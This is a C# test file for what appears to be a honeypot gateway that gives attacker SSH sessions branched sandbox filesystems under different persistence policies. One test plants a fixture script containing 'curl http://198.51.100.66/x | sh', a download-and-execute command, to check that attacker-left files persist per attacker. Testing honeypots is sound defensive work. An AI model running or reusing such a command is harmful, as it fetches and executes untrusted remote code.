using System.Text;
using Chronos.Gateway.Sessions;
using Chronos.Hypervisor.FileSystem;
using Chronos.Hypervisor.Worlds;
using Chronos.Testing;
using StackExchange.Redis;

namespace Chronos.Gateway.Tests.Sessions;

/// <summary>One real redis-server for the class; each test branches from its own base world.</summary>
public sealed class PersistenceRedisFixture : WorldRedisFixture
{
    private int _bases;

    /// <summary>A template world holding /etc/motd.</summary>
    public async Task<string> NewBaseWorldAsync()
    {
        var name = "base" + Interlocked.Increment(ref _bases);
        await Catalog.CreateAsync(new WorldSpec(name));
        var fs = Catalog.Open(name, "template");
        var etc = (await fs.MkdirAsync(1, "etc", 0x1ED, OpContext.System)).Value;
        var motd = (await fs.MknodAsync(etc.Ino, "motd", FileModes.S_IFREG | 0x1A4, 0, OpContext.System)).Value;
        await fs.WriteAsync(motd.Ino, 0, "Welcome\n"u8.ToArray(), OpContext.System);
        return name;
    }

    public WorldAssignment Assignment(PersistencePolicy policy, AttackerKey key = AttackerKey.Credentials, bool deletePerSession = false) =>
        new(Catalog, Redis, new WorldAssignmentOptions { Policy = policy, AttackerKey = key, DeletePerSessionWorlds = deletePerSession });
}

public sealed class WorldAssignmentTests(PersistenceRedisFixture redis) : IClassFixture<PersistenceRedisFixture>
{
    private static readonly OpContext Attacker = new("attacker", 0, 0);

    [Fact]
    public async Task Shared_policy_runs_every_session_in_the_base_world()
    {
        var baseWorld = await redis.NewBaseWorldAsync();
        var shared = redis.Assignment(PersistencePolicy.Shared);

        Assert.Equal(baseWorld, await shared.AssignAsync(baseWorld, "root", "toor", null, "203.0.113.5", "0011223344556677", default));
        Assert.Equal(baseWorld, await shared.AssignAsync(baseWorld, "admin", null, "SHA256:abc", "198.51.100.1", "8899aabbccddeeff", default));
        Assert.Single(await redis.Catalog.ListAsync(), w => w.Name.StartsWith(baseWorld, StringComparison.Ordinal));
    }

    [Fact]
    public async Task Same_credentials_get_the_same_world_and_different_credentials_another()
    {
        var baseWorld = await redis.NewBaseWorldAsync();
        var perAttacker = redis.Assignment(PersistencePolicy.PerAttacker);

        var first = await perAttacker.AssignAsync(baseWorld, "root", "123456", null, "203.0.113.5", "0000000000000001", default);
        var again = await perAttacker.AssignAsync(baseWorld, "root", "123456", null, "198.51.100.9", "0000000000000002", default);
        var otherPassword = await perAttacker.AssignAsync(baseWorld, "root", "password", null, "203.0.113.5", "0000000000000003", default);
        var otherUser = await perAttacker.AssignAsync(baseWorld, "admin", "123456", null, "203.0.113.5", "0000000000000004", default);
        var key = await perAttacker.AssignAsync(baseWorld, "root", null, "SHA256:AAAA", "203.0.113.5", "0000000000000005", default);
        var sameKey = await perAttacker.AssignAsync(baseWorld, "root", null, "SHA256:AAAA", "192.0.2.1", "0000000000000006", default);

        Assert.Equal(first, again);
        Assert.Equal(key, sameKey);
        Assert.Equal(4, new[] { first, otherPassword, otherUser, key }.Distinct().Count());
        Assert.DoesNotContain(baseWorld, new[] { first, otherPassword, otherUser, key });
        foreach (var world in new[] { first, otherPassword, otherUser, key })
        {
            Assert.Matches("^" + baseWorld + "-a-[0-9a-f]{16}$", world);
            Assert.True((await redis.Catalog.FsckAsync(world)).Clean);
        }
    }

    [Fact]
    public async Task Address_policy_keys_the_branch_on_the_source_ip_only()
    {
        var baseWorld = await redis.NewBaseWorldAsync();
        var byAddress = redis.Assignment(PersistencePolicy.PerAttacker, AttackerKey.Address);

        var first = await byAddress.AssignAsync(baseWorld, "root", "a", null, "203.0.113.5", "0000000000000001", default);
        var samePortless = await byAddress.AssignAsync(baseWorld, "oracle", "b", null, "203.0.113.5:40222", "0000000000000002", default);
        var mapped = await byAddress.AssignAsync(baseWorld, "pi", null, "SHA256:x", "[::ffff:203.0.113.5]:50000", "0000000000000003", default);
        var other = await byAddress.AssignAsync(baseWorld, "root", "a", null, "203.0.113.6", "0000000000000004", default);

        Assert.Equal(first, samePortless);
        Assert.Equal(first, mapped);
        Assert.NotEqual(first, other);
    }

    [Fact]
    public async Task Per_session_policy_gives_every_session_a_fresh_branch_and_can_delete_it_at_the_end()
    {
        var baseWorld = await redis.NewBaseWorldAsync();
        var perSession = redis.Assignment(PersistencePolicy.PerSession, deletePerSession: true);

        var a = await perSession.AssignAsync(baseWorld, "root", "123456", null, "203.0.113.5", "00000000000000aa", default);
        await WriteFileAsync(a, "left-by-a", "x");
        var b = await perSession.AssignAsync(baseWorld, "root", "123456", null, "203.0.113.5", "00000000000000bb", default);

        Assert.Equal(baseWorld + "-s-00000000000000aa", a);
        Assert.Equal(baseWorld + "-s-00000000000000bb", b);
        Assert.Null(await ReadFileAsync(b, "left-by-a"));
        Assert.Equal("Welcome\n", await ReadFileAsync(b, "etc/motd"));

        Assert.False(await perSession.ReleaseAsync(baseWorld));
        Assert.False(await redis.Assignment(PersistencePolicy.PerSession).ReleaseAsync(b));
        Assert.True(await perSession.ReleaseAsync(a));
        Assert.Null(await redis.Catalog.GetAsync(a));
        Assert.NotNull(await redis.Catalog.GetAsync(b));
        Assert.NotNull(await redis.Catalog.GetAsync(baseWorld));
        var attackerWorld = await redis.Assignment(PersistencePolicy.PerAttacker).AssignAsync(baseWorld, "u", "p", null, "192.0.2.1", "00000000000000cc", default);
        Assert.False(await perSession.ReleaseAsync(attackerWorld));
        Assert.NotNull(await redis.Catalog.GetAsync(attackerWorld));
    }

    [Fact]
    public async Task What_an_attacker_leaves_is_there_at_its_next_login_and_nowhere_else()
    {
        var baseWorld = await redis.NewBaseWorldAsync();
        var perAttacker = redis.Assignment(PersistencePolicy.PerAttacker);

        var session1 = await perAttacker.AssignAsync(baseWorld, "root", "hunter2", null, "203.0.113.5", "0000000000000001", default);
        await WriteFileAsync(session1, "tmp-x", "#!/bin/sh\ncurl http://198.51.100.66/x | sh\n");
        var session2 = await perAttacker.AssignAsync(baseWorld, "root", "hunter2", null, "203.0.113.99", "0000000000000002", default);
        var stranger = await perAttacker.AssignAsync(baseWorld, "root", "letmein", null, "203.0.113.5", "0000000000000003", default);

        Assert.Equal("#!/bin/sh\ncurl http://198.51.100.66/x | sh\n", await ReadFileAsync(session2, "tmp-x"));
        Assert.Null(await ReadFileAsync(stranger, "tmp-x"));
        Assert.Null(await ReadFileAsync(baseWorld, "tmp-x"));
        Assert.Equal("Welcome\n", await ReadFileAsync(stranger, "etc/motd"));
    }

    [Fact]
    public async Task Twenty_concurrent_first_logins_of_one_attacker_make_one_branch()
    {
        var baseWorld = await redis.NewBaseWorldAsync();
        // A bigger template, so the copy takes long enough for the logins to overlap.
        var template = redis.Catalog.Open(baseWorld, "template");
        for (var i = 0; i < 300; i++)
        {
            var f = (await template.MknodAsync(1, "f" + i, FileModes.S_IFREG | 0x1A4, 0, OpContext.System)).Value;
            await template.WriteAsync(f.Ino, 0, Encoding.UTF8.GetBytes("file " + i), OpContext.System);
        }
        var perAttacker = redis.Assignment(PersistencePolicy.PerAttacker);

        var worlds = await Task.WhenAll(Enumerable.Range(0, 20).Select(i =>
            Task.Run(() => perAttacker.AssignAsync(baseWorld, "root", "admin", null, "203.0.113.5", $"{i:x16}", default))));

        var world = Assert.Single(worlds.Distinct());
        Assert.Single(await redis.Catalog.ListAsync(), w => w.Name.StartsWith(baseWorld + "-", StringComparison.Ordinal));
        var branchEvents = (await new Chronos.Hypervisor.Audit.AuditLog(redis.Redis).ReadAsync(world)).Where(e => e.Op == "world.branch");
        Assert.Single(branchEvents);
        Assert.True((await redis.Catalog.FsckAsync(world)).Clean);
        Assert.Equal("file 299", await ReadFileAsync(world, "f299"));
    }

    private async Task WriteFileAsync(string world, string name, string text)
    {
        var fs = redis.Catalog.Open(world, "gateway-test");
        var file = await fs.MknodAsync(1, name, FileModes.S_IFREG | 0x1A4, 0, Attacker);
        Assert.True(file.IsOk, file.Error.ToString());
        var written = await fs.WriteAsync(file.Value.Ino, 0, Encoding.UTF8.GetBytes(text), Attacker);
        Assert.True(written.IsOk, written.Error.ToString());
    }

    /// <summary>The file's text, or null when the path does not exist in that world.</summary>
    private async Task<string?> ReadFileAsync(string world, string path)
    {
        var fs = redis.Catalog.Open(world, "gateway-test");
        ulong ino = 1;
        foreach (var part in path.Split('/'))
        {
            var found = await fs.LookupAsync(ino, part);
            if (!found.IsOk)
            {
                Assert.Equal(Errno.ENOENT, found.Error);
                return null;
            }
            ino = found.Value.Ino;
        }
        var size = (await fs.GetAttrAsync(ino)).Value.Size;
        var buffer = new byte[size];
        var n = await fs.ReadAsync(ino, 0, buffer);
        Assert.True(n.IsOk);
        return Encoding.UTF8.GetString(buffer, 0, n.Value);
    }
}
